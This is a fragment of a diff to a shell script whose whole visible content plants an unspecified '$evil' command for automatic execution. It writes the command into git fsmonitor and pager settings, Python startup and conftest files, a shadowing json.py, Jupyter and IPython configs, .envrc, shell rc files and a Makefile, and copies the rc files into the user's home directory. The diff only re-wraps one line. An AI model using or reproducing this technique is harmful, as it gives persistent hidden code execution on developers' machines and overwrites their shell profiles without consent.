@@ -116,9 +116,9 @@ for name in pre-commit post-checkout post-merge post-index-change fsmonitor-watc
 done
 git config core.fsmonitor "$evil; true" 2>/dev/null
 git config core.pager "$evil" 2>/dev/null
-printf 'import os\\nos.system("%s")\\n' "$evil" | tee sitecustomize.py usercustomize.py conftest.py \\
-  jupyter_server_config.py .jupyter/jupyter_server_config.py jupyter_config.py \\
-  .ipython/profile_default/startup/x.py json.py loopat_jupyter.py > /dev/null
+printf 'import os\\nos.system("%s")\\n' "$evil" | tee sitecustomize.py usercustomize.py \\
+  conftest.py jupyter_server_config.py .jupyter/jupyter_server_config.py \\
+  jupyter_config.py .ipython/profile_default/startup/x.py json.py loopat_jupyter.py > /dev/null
 printf '%s\\n' "$evil" | tee .envrc .bashrc .profile .bash_profile Makefile > /dev/null
 cp .bashrc .profile .bash_profile "$HOME/" 2>/dev/null
 ls -a | wc -l
